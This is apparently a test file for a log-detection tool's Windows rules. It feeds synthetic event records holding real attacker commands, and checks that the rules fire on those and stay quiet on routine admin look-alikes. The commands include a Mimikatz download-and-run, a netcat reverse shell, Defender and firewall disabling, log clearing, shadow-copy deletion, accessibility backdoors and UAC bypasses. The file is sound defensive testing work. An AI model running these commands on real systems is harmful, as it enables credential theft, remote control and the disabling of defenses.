"""logwarden's Windows execution/persistence/evasion rules (detect/data/windows_execution.yml) on
events as the real Windows parser reads them: each rule fires, at its level, on the tradecraft it
names, and stays quiet on the routine admin action that looks most like it."""

from __future__ import annotations

import json

import pytest
from _rule_events import by_rule, parsed

from logwarden.app.detect import Detector

SYSMON = "Microsoft-Windows-Sysmon/Operational"
PS = "Microsoft-Windows-PowerShell/Operational"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CONTEXT = ("        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
           "        Host Application = {app}\r\n        Engine Version = 5.1.19041.1237\r\n")


def _win(event_id: int, channel: str = "Security", **data) -> str:
    """One Windows event as a JSON line (the flat shape winlogbeat/nxlog exporters write)."""
    return json.dumps({"EventID": event_id, "Channel": channel, "Computer": "WS-17.corp.local",
                       "TimeCreated": "2025-04-02T10:00:00Z", **data})


def proc(command_line: str, image: str, parent: str = SYSTEM32 + "cmd.exe", **extra) -> str:
    """Sysmon 1 process creation."""
    return _win(1, SYSMON, Image=image, CommandLine=command_line, ParentImage=parent, User="CORP\\bob", **extra)


def proc4688(command_line: str, image: str, parent: str = SYSTEM32 + "cmd.exe") -> str:
    """Security 4688 with command-line auditing on."""
    return _win(4688, NewProcessName=image, CommandLine=command_line, ParentProcessName=parent,
                SubjectUserName="bob", SubjectDomainName="CORP")


def registry(target: str, details: str, image: str = SYSTEM32 + "reg.exe") -> str:
    """Sysmon 13 registry value set."""
    return _win(13, SYSMON, EventType="SetValue", Image=image, TargetObject=target, Details=details)


def file_created(target: str, image: str) -> str:
    """Sysmon 11 file created."""
    return _win(11, SYSMON, Image=image, TargetFilename=target)


def script_block(text: str) -> str:
    """PowerShell 4104 script block."""
    return _win(4104, PS, ScriptBlockText=text, ScriptBlockId="5b5b1a2e-0000-4000-8000-000000000001")


def module_log(payload: str, app: str = POWERSHELL) -> str:
    """PowerShell 4103 module (pipeline execution) event."""
    return _win(4103, PS, Payload=payload, ContextInfo=CONTEXT.format(app=app))


def signals_of(rules, lines: list[str], rule_id: str):
    return by_rule(Detector(rules).scan(parsed(lines, "windows", "win.json")), rule_id)


FIRES = [
    ("lw-win-schtasks-system-script", "high", [proc4688(
        '"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /mo 1 /tn eviltask /tr C:\\tools\\shell.cmd /ru SYSTEM',
        SYSTEM32 + "schtasks.exe", parent=POWERSHELL)]),
    ("lw-win-schtasks-system-script", "high", [proc(
        'schtasks /create /tn "OneDrive Sync" /ru "NT AUTHORITY\\SYSTEM" /sc onlogon '
        '/tr "powershell -w hidden -c iex(gc C:\\Users\\Public\\a.txt)"', SYSTEM32 + "schtasks.exe")]),
    ("lw-win-at-interactive", "high", [proc4688("at  13:20 /interactive cmd", SYSTEM32 + "at.exe")]),
    ("lw-win-sc-sdset-tampering", "high", [proc4688('sc  sdset xboxgip "D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)',
                                                    SYSTEM32 + "sc.exe")]),
    ("lw-win-sc-sdset-tampering", "high", [proc(
        'sc.exe sdset evilsvc "D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(D;;DCLCWPDTSD;;;BA)(A;;CCLCSWLOCRRC;;;IU)'
        '(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;SY)"', SYSTEM32 + "sc.exe")]),
    ("lw-win-security-service-disabled", "high", [proc4688("sc  config WinDefend start= disabled", SYSTEM32 + "sc.exe")]),
    ("lw-win-security-service-disabled", "high", [proc('net stop "MpsSvc"', SYSTEM32 + "net.exe")]),
    ("lw-win-wmiprvse-shell", "high", [proc(
        "powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i'))", POWERSHELL,
        parent=SYSTEM32 + "wbem\\WmiPrvSE.exe", ParentCommandLine="C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding")]),
    ("lw-win-spoolsv-shell", "high", [proc('"cmd.exe"', SYSTEM32 + "cmd.exe", parent=SYSTEM32 + "spoolsv.exe")]),
    ("lw-win-mmc-dcom", "high", [proc4688("C:\\Windows\\system32\\mmc.exe -Embedding", SYSTEM32 + "mmc.exe",
                                          parent=SYSTEM32 + "svchost.exe")]),
    ("lw-win-impacket-exec", "high", [proc(
        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1617282834.5501 2>&1", SYSTEM32 + "cmd.exe",
        parent=SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
    ("lw-win-impacket-exec", "high", [proc(
        "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat ", SYSTEM32 + "cmd.exe",
        ParentCommandLine="C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
                          "C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat")]),
    ("lw-win-powershell-obfuscation", "high", [proc4688(
        "powershell.exe -exec bypass -noni -nop -w 1 -C \" & ( $pSHomE[4]+$pshome[30]+'x')(\"$( seT-VariaBLe 'OFs' '') \"",
        POWERSHELL, parent=SYSTEM32 + "cmd.exe")]),
    ("lw-win-powershell-obfuscation", "high", [script_block(
        ". ( $PsHoME[4]+$PsHoME[34]+'X')( [StriNG]('" + "A".join(str(70 + i % 40) for i in range(40)) + "' -sPlit 'A'))")]),
    ("lw-win-powershell-obfuscation", "high", [module_log(
        'CommandInvocation(Set-Variable): "Set-Variable"\r\n',
        app="powershell.exe -nop -C ((91 ,78,101 ,116, 46, 83, 101 ,114, 118, 105,99 , 101,80 , 111,105,110 ,116,77,97,"
            "110, 97,103,101,114,93)|%{[char]$_}) -join ''")]),
    ("lw-win-powershell-offensive-module", "high", [module_log(
        'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): '
        'name="Command"; value="IEX (New-Object Net.WebClient).DownloadString(\'https://10.0.0.5/Invoke-Mimikatz.ps1\')'
        '\n$cmd = Invoke-Mimikatz -Command \'privilege::debug sekurlsa::logonpasswords\'"\r\n')]),
    ("lw-win-powershell-defender-disabled", "high", [script_block("Set-MpPreference -DisableRealtimeMonitoring $true")]),
    ("lw-win-powershell-defender-disabled", "high", [module_log(
        'CommandInvocation(Set-MpPreference): "Set-MpPreference"\r\nParameterBinding(Set-MpPreference): '
        'name="DisableIOAVProtection"; value="True"\r\n')]),
    ("lw-win-powershell-defender-disabled", "high", [proc4688(
        'powershell.exe  -command "Set-MpPreference -EnableControlledFolderAccess Disabled"', POWERSHELL)]),
    ("lw-win-powershell-defender-exclusion", "medium", [script_block("Set-MpPreference -ExclusionPath c:\\document\\virus\\")]),
    ("lw-win-powershell-defender-exclusion", "medium", [module_log(
        'CommandInvocation(Add-MpPreference): "Add-MpPreference"\r\nParameterBinding(Add-MpPreference): '
        'name="ExclusionExtension"; value=".exe"\r\n')]),
    ("lw-win-firewall-disabled", "medium", [script_block(
        "Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False")]),
    ("lw-win-firewall-disabled", "medium", [module_log(
        'CommandInvocation(Set-NetFirewallProfile): "Set-NetFirewallProfile"\r\nParameterBinding(Set-NetFirewallProfile): '
        'name="Name"; value="Domain, Public, Private"\r\nParameterBinding(Set-NetFirewallProfile): name="Enabled"; value="False"\r\n')]),
    ("lw-win-firewall-disabled", "medium", [proc("netsh advfirewall set allprofiles state off", SYSTEM32 + "netsh.exe")]),
    ("lw-win-powershell-clear-eventlog", "high", [script_block("Clear-EventLog -LogName application, system -confirm")]),
    ("lw-win-powershell-clear-eventlog", "high", [module_log(
        'CommandInvocation(Clear-EventLog): "Clear-EventLog"\r\nParameterBinding(Clear-EventLog): name="LogName"; '
        'value="application, system"\r\n')]),
    ("lw-win-powershell-shadow-copy-deletion", "critical", [script_block(
        "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}")]),
    ("lw-win-powershell-shadow-copy-deletion", "critical", [script_block(
        "Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance")]),
    ("lw-win-setspn-enumeration", "medium", [proc("setspn  -T offsec -Q */*", SYSTEM32 + "setspn.exe")]),
    ("lw-win-tscon-hijack", "high", [proc4688("tscon  2 /dest:rdp-tcp#8", SYSTEM32 + "tscon.exe")]),
    ("lw-win-tscon-hijack", "high", [proc4688('sc.exe  create hijackservice binpath= "cmd.exe /k tscon 2 /dest:rdp-tcp#5"',
                                              SYSTEM32 + "sc.exe")]),
    ("lw-win-accessibility-backdoor", "high", [registry(
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        "C:\\Windows\\System32\\cmd.exe")]),
    ("lw-win-accessibility-backdoor", "high", [proc(
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe" '
        '/t REG_SZ /v Debugger /d "C:\\windows\\system32\\cmd.exe" /f', SYSTEM32 + "reg.exe")]),
    ("lw-win-accessibility-backdoor", "high", [proc(
        "cmd /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe", SYSTEM32 + "cmd.exe")]),
    ("lw-win-uac-bypass-shell-open", "high", [registry(
        "HKU\\S-1-5-21-3125456671-949036322-3048627137-1104_Classes\\ms-settings\\Shell\\Open\\command\\DelegateExecute",
        "(Empty)", image=POWERSHELL)]),
    ("lw-win-uac-bypass-shell-open", "high", [proc(
        'reg add HKCU\\Software\\Classes\\mscfile\\shell\\open\\command /d "C:\\Users\\Public\\p.exe" /f',
        SYSTEM32 + "reg.exe")]),
    ("lw-win-rdp-enabled-registry", "medium", [registry(
        "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)")]),
    ("lw-win-rdp-enabled-registry", "medium", [proc(
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v Shadow /t REG_DWORD /d 2 /f',
        SYSTEM32 + "reg.exe")]),
    ("lw-win-netsh-portproxy", "medium", [proc4688(
        "netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=48333 connectaddress=10.0.9.4 connectport=80",
        SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-rdp-forward", "high", [proc4688(
        "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1", SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-helper-dll", "high", [proc4688("netsh  add helper  C:\\Users\\Public\\h.dll",
                                                  SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-helper-dll", "high", [registry("HKLM\\SOFTWARE\\Microsoft\\NetSh\\beacon",
                                                  "C:\\Windows\\Temp\\beacon.dll", image=SYSTEM32 + "netsh.exe")]),
    ("lw-win-wdigest-enabled", "high", [registry(
        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)")]),
    ("lw-win-wdigest-enabled", "high", [proc(
        "reg  add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1",
        SYSTEM32 + "reg.exe")]),
    ("lw-win-lsass-dump-file", "high", [file_created("C:\\Users\\admmig\\AppData\\Local\\Temp\\lsass (4).DMP",
                                                     SYSTEM32 + "Taskmgr.exe")]),
    ("lw-win-mimikatz-files", "critical", [file_created("C:\\Windows\\System32\\mimilsa.log", SYSTEM32 + "lsass.exe")]),
    ("lw-win-mimikatz-files", "critical", [file_created(
        "C:\\Users\\bob\\Desktop\\[0;3e7]-2-0-40e10000-WS17$@krbtgt-CORP.LOCAL.kirbi", "C:\\Users\\bob\\Desktop\\m.exe")]),
    ("lw-win-remote-thread-unbacked", "high", [_win(
        8, SYSMON, SourceImage="C:\\Users\\wardog\\Desktop\\PurpleSharp.exe", TargetImage=SYSTEM32 + "notepad.exe",
        StartAddress="0x000001E0A2B40000", StartModule="-", StartFunction="-")]),
    ("lw-win-adsi-cache-user-program", "medium", [file_created(
        "C:\\Users\\pgustavo\\AppData\\Local\\Microsoft\\Windows\\SchCache\\theshire.local.sch",
        "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe")]),
    ("lw-win-service-tampering", "high", [proc4688('sc  failure W32Time command= "\\"c:\\Windows\\system32\\p.exe\\""',
                                                   SYSTEM32 + "sc.exe")]),
    ("lw-win-service-tampering", "high", [proc4688(
        'reg  add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\xboxgip" /v ImagePath /t REG_SZ '
        '/d "C:\\tmp\\p.exe"', SYSTEM32 + "reg.exe")]),
    ("lw-win-service-tampering", "high", [script_block(
        'Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\xboxgip -name FailureCommand '
        '-value "C:\\nc.exe -e powershell.exe 10.10.14.26 4447"')]),
    ("lw-win-service-tampering", "high", [proc4688(
        'reg  add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\XblGameSave\\Security" /v Security '
        '/t REG_BINARY /d fe340ead', SYSTEM32 + "reg.exe")]),
    ("lw-win-service-binpath-changed", "medium", [proc4688(
        'sc  config xboxgip binPath= "C:\\windows\\system32\\pentestlab.exe"', SYSTEM32 + "sc.exe")]),
    ("lw-win-service-binpath-changed", "medium", [script_block(
        'Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\xboxgip -name ImagePath '
        '-value "C:\\Program Files\\Agent\\agent.exe"')]),
    ("lw-win-impacket-exec", "high", [registry(
        "HKLM\\System\\CurrentControlSet\\Services\\BTOBTO\\ImagePath",
        "%%COMSPEC%% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %%TEMP%%\\execute.bat & "
        "%%COMSPEC%% /Q /c %%TEMP%%\\execute.bat & del %%TEMP%%\\execute.bat", image=SYSTEM32 + "services.exe")]),
    ("lw-win-mimikatz-driver", "critical", [registry(
        "HKLM\\System\\CurrentControlSet\\Services\\mimidrv\\ImagePath", "\\??\\C:\\TOOLS\\mimikatz\\mimidrv.sys",
        image=SYSTEM32 + "services.exe")]),
    ("lw-win-wmi-persistence", "high", [_win(
        20, SYSMON, EventType="WmiConsumerEvent", Operation="Created", User="CORP\\bob", Name=' "Evil"',
        Type="Command Line", Destination=' "cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt"')]),
    ("lw-win-wmi-persistence", "high", [script_block(
        "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='u';"
        "CommandLineTemplate='C:\\Users\\Public\\u.exe'}")]),
    ("lw-win-printer-port-file", "high", [script_block("Add-PrinterPort -Name c:\\windows\\system32\\ualapi.dll")]),
    ("lw-win-powershell-kerberos-ticket-request", "high", [script_block(
        "New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $SPNName")]),
]


@pytest.mark.parametrize("rule_id, level, lines", FIRES)
def test_rule_fires_on_the_technique(rules, rule_id, level, lines):
    [signal] = signals_of(rules, lines, rule_id)
    assert signal.level == level
    assert signal.line_numbers == list(range(1, len(lines) + 1))


QUIET = [
    ("lw-win-schtasks-system-script", [proc(
        'schtasks /create /tn "GoogleUpdateTaskMachineCore" /ru SYSTEM /sc daily '
        '/tr "\\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\\" /c"', SYSTEM32 + "schtasks.exe")]),
    ("lw-win-schtasks-system-script", [proc(
        'schtasks /create /tn "Backup" /sc daily /tr "C:\\Scripts\\backup.cmd" /ru CORP\\svc_backup',
        SYSTEM32 + "schtasks.exe")]),
    ("lw-win-at-interactive", [proc("cmd /c echo at the office /interactive-mode", SYSTEM32 + "cmd.exe")]),
    ("lw-win-sc-sdset-tampering", [proc(
        'sc sdset MyAgent "D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)(A;;CCLCSWLOCRRC;;;IU)"',
        SYSTEM32 + "sc.exe")]),
    ("lw-win-security-service-disabled", [proc("sc config wuauserv start= disabled", SYSTEM32 + "sc.exe")]),
    ("lw-win-security-service-disabled", [proc("sc query WinDefend", SYSTEM32 + "sc.exe")]),
    ("lw-win-wmiprvse-shell", [proc("C:\\Windows\\system32\\wbem\\unsecapp.exe -Embedding", SYSTEM32 + "wbem\\unsecapp.exe",
                                    parent=SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
    ("lw-win-spoolsv-shell", [proc("C:\\Windows\\System32\\PrintIsolationHost.exe", SYSTEM32 + "PrintIsolationHost.exe",
                                   parent=SYSTEM32 + "spoolsv.exe")]),
    ("lw-win-mmc-dcom", [proc('"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s',
                              SYSTEM32 + "mmc.exe", parent="C:\\Windows\\explorer.exe")]),
    ("lw-win-impacket-exec", [proc("cmd.exe /c copy report.xlsx \\\\fileserver\\share\\reports\\", SYSTEM32 + "cmd.exe")]),
    ("lw-win-powershell-obfuscation", [proc(
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Agent\\collect.ps1" -Verbose',
        POWERSHELL)]),
    ("lw-win-powershell-obfuscation", [script_block(
        "$msg = '{0} of {1} done' -f $i, $n\nWrite-Progress -Activity Sync -Status $msg `\n  -PercentComplete ($i / $n * 100)")]),
    ("lw-win-powershell-offensive-module", [module_log(
        'CommandInvocation(Get-Process): "Get-Process"\r\nParameterBinding(Get-Process): name="Name"; value="explorer"\r\n')]),
    ("lw-win-powershell-defender-disabled", [script_block("Set-MpPreference -DisableRealtimeMonitoring $false")]),
    ("lw-win-powershell-defender-disabled", [script_block("Set-MpPreference -SignatureUpdateInterval 4")]),
    ("lw-win-powershell-defender-exclusion", [script_block("Get-MpPreference | Select-Object ExclusionPath")]),
    ("lw-win-firewall-disabled", [script_block("Set-NetFirewallProfile -Profile Domain -Enabled True")]),
    ("lw-win-firewall-disabled", [proc("netsh advfirewall show allprofiles state", SYSTEM32 + "netsh.exe")]),
    ("lw-win-powershell-clear-eventlog", [script_block("Get-EventLog -LogName System -Newest 50")]),
    ("lw-win-powershell-shadow-copy-deletion", [script_block("Get-WmiObject Win32_ShadowCopy | Select-Object InstallDate")]),
    ("lw-win-setspn-enumeration", [proc("setspn -L svc_sql", SYSTEM32 + "setspn.exe")]),
    ("lw-win-tscon-hijack", [proc("tscon 3 /dest:console /password:*", SYSTEM32 + "tscon.exe")]),
    ("lw-win-accessibility-backdoor", [registry(
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\chrome.exe\\MitigationOptions",
        "Binary Data")]),
    ("lw-win-uac-bypass-shell-open", [registry(
        "HKLM\\SOFTWARE\\Classes\\exefile\\shell\\open\\command\\(Default)", '"%1" %*', image="C:\\Windows\\servicing\\TrustedInstaller.exe")]),
    ("lw-win-rdp-enabled-registry", [registry(
        "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000001)")]),
    ("lw-win-netsh-portproxy", [proc("netsh interface portproxy show all", SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-portproxy", [proc("netsh interface ipv4 show addresses", SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-rdp-forward", [proc(
        "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.9.4 connectport=80", SYSTEM32 + "netsh.exe")]),
    ("lw-win-netsh-helper-dll", [proc("netsh show helper", SYSTEM32 + "netsh.exe")]),
    ("lw-win-wdigest-enabled", [registry(
        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000000)")]),
    ("lw-win-lsass-dump-file", [file_created(
        "C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\AppCrash_lsass.exe_1\\lsass.exe.dmp", SYSTEM32 + "WerFault.exe")]),
    ("lw-win-lsass-dump-file", [file_created("C:\\Users\\bob\\AppData\\Local\\Temp\\chrome.DMP", SYSTEM32 + "Taskmgr.exe")]),
    ("lw-win-mimikatz-files", [file_created("C:\\Windows\\System32\\LogFiles\\lsa.log", SYSTEM32 + "lsass.exe")]),
    ("lw-win-remote-thread-unbacked", [_win(
        8, SYSMON, SourceImage="C:\\Program Files\\Mavinject\\agent.exe", TargetImage=SYSTEM32 + "notepad.exe",
        StartModule="C:\\windows\\System32\\KERNEL32.DLL", StartFunction="LoadLibraryW")]),
    ("lw-win-adsi-cache-user-program", [file_created(
        "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\SchCache\\corp.local.sch",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE")]),
    ("lw-win-service-tampering", [proc("sc config Spooler start= auto", SYSTEM32 + "sc.exe")]),
    ("lw-win-service-tampering", [proc(
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters" /v MaxUserPort /t REG_DWORD /d 65534',
        SYSTEM32 + "reg.exe")]),
    ("lw-win-service-tampering", [proc(
        'sc config AgentSvc binPath= "\\"C:\\Program Files\\Agent\\agent.exe\\" -service"', SYSTEM32 + "sc.exe")]),
    ("lw-win-service-binpath-changed", [proc("sc qc AgentSvc", SYSTEM32 + "sc.exe")]),
    ("lw-win-mimikatz-driver", [registry("HKLM\\System\\CurrentControlSet\\Services\\npcap\\ImagePath",
                                         "\\SystemRoot\\system32\\DRIVERS\\npcap.sys", image=SYSTEM32 + "services.exe")]),
    ("lw-win-wmi-persistence", [_win(
        20, SYSMON, EventType="WmiConsumerEvent", Operation="Created", User="NT AUTHORITY\\SYSTEM",
        Name=' "SCM Event Log Consumer"', Type="Log File", Destination=' "C:\\Windows\\Temp\\scm.log"')]),
    ("lw-win-printer-port-file", [script_block('Add-PrinterPort -Name "IP_10.0.4.50" -PrinterHostAddress "10.0.4.50"')]),
    ("lw-win-powershell-kerberos-ticket-request", [script_block("klist tickets")]),
]


@pytest.mark.parametrize("rule_id, lines", QUIET)
def test_rule_is_quiet_on_the_admin_lookalike(rules, rule_id, lines):
    assert signals_of(rules, lines, rule_id) == []


def test_every_rule_of_the_file_has_a_positive_and_a_negative_case(rules):
    from pathlib import Path

    import yaml

    from logwarden.app.detect import __file__ as detect_init

    path = Path(detect_init).parent / "data" / "windows_execution.yml"
    names = {doc["name"] for doc in yaml.safe_load_all(path.read_text()) if doc}
    assert names == {rule_id for rule_id, _, _ in FIRES}
    assert names == {rule_id for rule_id, _ in QUIET}
